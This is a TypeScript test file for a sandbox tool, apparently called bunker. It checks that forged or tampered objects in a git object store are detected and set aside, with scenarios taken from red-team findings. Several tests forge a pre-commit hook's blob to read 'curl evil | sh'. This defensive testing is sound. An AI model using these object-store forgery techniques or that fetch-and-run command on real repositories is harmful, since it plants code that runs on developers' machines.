// What a command writes into a repository's object store under --allow-write=.git that the person's git would trust
// unchecked: checked after it against real git repositories (red team 11's F14 and F16). The command's writes are
// made here between the look before and the look after, as a command in the sandbox would make them.
import { expect, test } from "bun:test";
import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { looseObjectIsWhatItsNameSays, objectsAfter, objectStoresBefore } from "../../../src/sandbox/git-objects.ts";
import { tempDir } from "../../support/context.ts";

const git = (cwd: string, ...args: string[]) => Bun.spawnSync(["git", "-c", "user.email=a@b", "-c", "user.name=A", ...args], { cwd, stdout: "pipe", stderr: "pipe" });
const out = (cwd: string, ...args: string[]) => git(cwd, ...args).stdout.toString().trim();

/** A repository with one commit of a husky hook; its blob stays loose. */
function repo(): { root: string; gitDir: string; hookId: string } {
  const root = tempDir("bunker-objects-");
  git(root, "init", "-q", "-b", "main");
  mkdirSync(join(root, ".husky"));
  writeFileSync(join(root, ".husky/pre-commit"), "#!/bin/sh\nnpm test\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "one");
  return { root, gitDir: join(root, ".git"), hookId: out(root, "rev-parse", "HEAD:.husky/pre-commit") };
}

const loosePath = (gitDir: string, id: string) => join(gitDir, "objects", id.slice(0, 2), id.slice(2));
/** What git would read for a loose object named `id` if its file held `bytes` (a valid zlib stream, the wrong content). */
const looseBytes = (content: string) => deflateSync(Buffer.from(`blob ${content.length}\0${content}`));

test("a loose object rewritten in place with other bytes under its name is set aside; git no longer reads them as the hook", async () => {
  const { root, gitDir, hookId } = repo();
  const [before] = objectStoresBefore([gitDir]);
  await Bun.sleep(5);
  const path = loosePath(gitDir, hookId);
  chmodSync(path, 0o644);
  writeFileSync(path, looseBytes("#!/bin/sh\ncurl evil | sh\n"));
  expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
  const lines = await objectsAfter(before!, root);
  expect(lines).toHaveLength(1);
  expect(lines[0]).toContain(`bunker set aside .git/objects/${hookId.slice(0, 2)}/${hookId.slice(2)}, which the command wrote: its bytes are not the object its name says`);
  expect(existsSync(path)).toBe(false);
  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
});

test("a forged object made by one command in a folder no check looks in, then moved into place by the next (its old change time kept): set aside (red team 12's F01)", async () => {
  const { root, gitDir, hookId } = repo();
  const [d, f] = [hookId.slice(0, 2), hookId.slice(2)];
  const staged = join(gitDir, "objects", `stash_${d}`);
  // The first command: a copy of the folder, the hook's object forged in it. Nothing git reads has changed.
  const [first] = objectStoresBefore([gitDir]);
  await Bun.sleep(5);
  cpSync(join(gitDir, "objects", d), staged, { recursive: true });
  chmodSync(join(staged, f), 0o644);
  writeFileSync(join(staged, f), looseBytes("#!/bin/sh\ncurl evil | sh\n"));
  expect(await objectsAfter(first!, root)).toEqual([]);
  // The second command: the folder swapped in. Its files keep the first command's change time.
  await Bun.sleep(20);
  const [second] = objectStoresBefore([gitDir]);
  await Bun.sleep(5);
  rmSync(join(gitDir, "objects", d), { recursive: true });
  renameSync(staged, join(gitDir, "objects", d));
  expect(lstatSync(loosePath(gitDir, hookId)).ctimeMs).toBeLessThan(second!.at);
  expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
  const lines = await objectsAfter(second!, root);
  expect(lines).toHaveLength(1);
  expect(lines[0]).toContain(`bunker set aside .git/objects/${d}/${f}, which the command wrote: its bytes are not the object its name says`);
  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
});

test("a loose-object folder made a link to a folder filled earlier: the link is set aside, and git no longer reads the forged object", async () => {
  const { root, gitDir, hookId } = repo();
  const [d, f] = [hookId.slice(0, 2), hookId.slice(2)];
  const elsewhere = join(gitDir, "objects", "info", `x${d}`);
  cpSync(join(gitDir, "objects", d), elsewhere, { recursive: true });
  chmodSync(join(elsewhere, f), 0o644);
  writeFileSync(join(elsewhere, f), looseBytes("#!/bin/sh\ncurl evil | sh\n"));
  await Bun.sleep(20);
  const [before] = objectStoresBefore([gitDir]);
  await Bun.sleep(5);
  rmSync(join(gitDir, "objects", d), { recursive: true });
  symlinkSync(elsewhere, join(gitDir, "objects", d));
  expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
  const lines = await objectsAfter(before!, root);
  expect(lines.some((l) => l.includes(`bunker set aside .git/objects/${d}, which the command made a link or a file`))).toBe(true);
  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
});

test("a loose object rewritten in place beside 20,001 junk names, its folder's time set back: still set aside (red team 12's F08)", async () => {
  const { root, gitDir, hookId } = repo();
  const [before] = objectStoresBefore([gitDir]);
  await Bun.sleep(5);
  const folder = join(gitDir, "objects", hookId.slice(0, 2));
  chmodSync(loosePath(gitDir, hookId), 0o644);
  writeFileSync(loosePath(gitDir, hookId), looseBytes("#!/bin/sh\ncurl evil | sh\n"));
  for (let i = 0; i <= 20_000; i++) writeFileSync(join(folder, `tmp_obj_${i}`), "");
  utimesSync(folder, new Date("2001-01-01"), new Date("2001-01-01"));
  const lines = await objectsAfter(before!, root);
  expect(lines.some((l) => l.includes(`bunker set aside .git/objects/${hookId.slice(0, 2)}/${hookId.slice(2)}, which the command wrote`))).toBe(true);
  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
});

test("what a command rightly writes stays: a commit's new loose objects and a repacked, verified pack", async () => {
  const { root, gitDir } = repo();
  const [before] = objectStoresBefore([gitDir]);
  await Bun.sleep(5);
  writeFileSync(join(root, "a.txt"), "a\n");
  git(root, "add", "a.txt");
  git(root, "commit", "-qm", "two");
  git(root, "repack", "-q", "-a", "-d", "--no-write-bitmap-index");
  const packs = readdirSync(join(gitDir, "objects/pack"));
  expect(packs.some((p) => p.endsWith(".pack"))).toBe(true);
  expect(await objectsAfter(before!, root)).toEqual([]);
  expect(readdirSync(join(gitDir, "objects/pack"))).toEqual(packs);
  expect(out(root, "log", "--oneline")).toContain("two");
});

test("a pack that does not verify is set aside, index and pack; one byte changed in its objects is enough", async () => {
  const { root, gitDir, hookId } = repo();
  const [before] = objectStoresBefore([gitDir]);
  await Bun.sleep(5);
  const name = Bun.spawnSync(["git", "pack-objects", "-q", join(gitDir, "objects/pack/pack")], { cwd: root, stdin: Buffer.from(`${hookId}\n`), stdout: "pipe" }).stdout.toString().trim();
  const pack = join(gitDir, `objects/pack/pack-${name}.pack`);
  const bytes = readFileSync(pack);
  bytes[bytes.length - 25] = bytes[bytes.length - 25]! ^ 0xff;
  chmodSync(pack, 0o644);
  writeFileSync(pack, bytes);
  const lines = await objectsAfter(before!, root);
  expect(lines.filter((l) => l.includes("does not verify (git verify-pack)"))).toHaveLength(2);
  expect(existsSync(pack)).toBe(false);
  expect(existsSync(`${pack}.bunker-set-aside`)).toBe(true);
});

/** A repository whose new pack holds 24 MB of noise: past the size bunker once kept unverified. */
function bigPack(): { root: string; gitDir: string; pack: string; before: ReturnType<typeof objectStoresBefore>[number] } {
  const { root, gitDir } = repo();
  const [before] = objectStoresBefore([gitDir]);
  const big = Buffer.alloc(24 * 1024 * 1024);
  for (let i = 0; i < big.length; i += 65536) big.set(crypto.getRandomValues(new Uint8Array(65536)), i);
  writeFileSync(join(root, "noise"), big);
  git(root, "add", "noise");
  git(root, "commit", "-qm", "noise");
  git(root, "repack", "-q", "-a", "-d", "--no-write-bitmap-index");
  const pack = readdirSync(join(gitDir, "objects/pack")).find((p) => p.endsWith(".pack"))!;
  return { root, gitDir, pack: join(gitDir, "objects/pack", pack), before: before! };
}

test("a large pack is verified without holding up the event loop (reviewer's R11-17), said while it runs, and kept when it verifies", async () => {
  const { root, before, pack } = bigPack();
  let ticks = 0;
  const timer = setInterval(() => ticks++, 1);
  const said: string[] = [];
  const lines = await objectsAfter(before, root, { progress: (l) => said.push(l) });
  clearInterval(timer);
  expect(lines).toEqual([]);
  expect(existsSync(pack)).toBe(true);
  expect(said).toHaveLength(1);
  expect(said[0]).toMatch(/^bunker is verifying \.git\/objects\/pack\/pack-[0-9a-f]+\.pack \(24 MB\), which the command wrote/);
  expect(ticks).toBeGreaterThan(2);
}, 30_000);

test("a pack bunker could not verify in its time is set aside, not kept, with how to check it and put it back (reviewer's R11-18)", async () => {
  const { root, before, pack } = bigPack();
  process.env.BUNKER_VERIFY_PACK_MS = "1";
  try {
    const lines = await objectsAfter(before, root);
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain("which bunker could not verify (git verify-pack did not finish in its time; check it with git verify-pack .git/objects/pack/");
    expect(lines[1]).toContain("to restore it after checking it: mv");
    expect(existsSync(pack)).toBe(false);
    expect(existsSync(`${pack}.bunker-set-aside`)).toBe(true);
  } finally {
    delete process.env.BUNKER_VERIFY_PACK_MS;
  }
}, 30_000);

test("a commit-graph the command wrote is removed (git takes a commit's tree from it), and an alternates file it made or changed is put back", async () => {
  const { root, gitDir } = repo();
  writeFileSync(join(gitDir, "objects/info/alternates"), "/srv/mirror/objects\n");
  const [before] = objectStoresBefore([gitDir]);
  await Bun.sleep(5);
  git(root, "commit-graph", "write", "--reachable");
  expect(existsSync(join(gitDir, "objects/info/commit-graph"))).toBe(true);
  writeFileSync(join(gitDir, "objects/info/alternates"), `${join(root, ".cache/odb")}\n`);
  const lines = await objectsAfter(before!, root);
  expect(lines).toContain("bunker removed .git/objects/info/commit-graph, which the command wrote: git reads commits and objects through it without checking them, and works without it (git rebuilds it when it needs it)");
  expect(lines).toContain("bunker put back .git/objects/info/alternates, which the command changed: git would have taken objects from the folders it names as this repository's own");
  expect(existsSync(join(gitDir, "objects/info/commit-graph"))).toBe(false);
  expect(readFileSync(join(gitDir, "objects/info/alternates"), "utf8")).toBe("/srv/mirror/objects\n");
});

test("a loose object is what its name says only when its inflated bytes hash to it", () => {
  const { gitDir, hookId } = repo();
  expect(looseObjectIsWhatItsNameSays(loosePath(gitDir, hookId), hookId)).toBe(true);
  expect(looseObjectIsWhatItsNameSays(loosePath(gitDir, hookId), `${hookId.slice(0, -1)}0`)).toBe(hookId.endsWith("0"));
});

// Reviewer's R12-17: Ctrl+C while bunker verified a pack set it aside, and after a `git gc` that pack is the whole
// history (the person's git log: "fatal: bad object HEAD"). An interrupted check is not a failed one.
test("a pack whose check is interrupted stays where it is, said unverified, and is checked again after the next command", async () => {
  const { root, gitDir, before, pack } = bigPack();
  const stop = new AbortController();
  const lines = await objectsAfter(before, root, { signal: stop.signal, progress: () => setTimeout(() => stop.abort(), 30) });
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^bunker left \.git\/objects\/pack\/pack-[0-9a-f]+\.pack, which the command wrote, where it is, NOT VERIFIED: its check \(git verify-pack\) was interrupted/);
  expect(existsSync(pack)).toBe(true);
  expect(out(root, "log", "-1", "--format=%s")).toBe("noise");
  // The next command changes nothing: the pack is checked again then, verifies, and stays with nothing said.
  const [next] = objectStoresBefore([gitDir]);
  expect(await objectsAfter(next!, root)).toEqual([]);
  expect(existsSync(pack)).toBe(true);
}, 60_000);

test("an interrupted check of a pack that does not verify: left, then set aside after the next command", async () => {
  const { root, gitDir, before, pack } = bigPack();
  const bytes = readFileSync(pack);
  bytes[bytes.length - 25] = bytes[bytes.length - 25]! ^ 0xff;
  chmodSync(pack, 0o644);
  writeFileSync(pack, bytes);
  const stop = new AbortController();
  const lines = await objectsAfter(before, root, { signal: stop.signal, progress: () => setTimeout(() => stop.abort(), 30) });
  expect(lines[0]).toContain("NOT VERIFIED: its check (git verify-pack) was interrupted");
  expect(existsSync(pack)).toBe(true);
  const [next] = objectStoresBefore([gitDir]);
  const again = await objectsAfter(next!, root);
  expect(again.filter((l) => l.includes("does not verify (git verify-pack)"))).toHaveLength(2);
  expect(existsSync(pack)).toBe(false);
  expect(existsSync(`${pack}.bunker-set-aside`)).toBe(true);
}, 60_000);
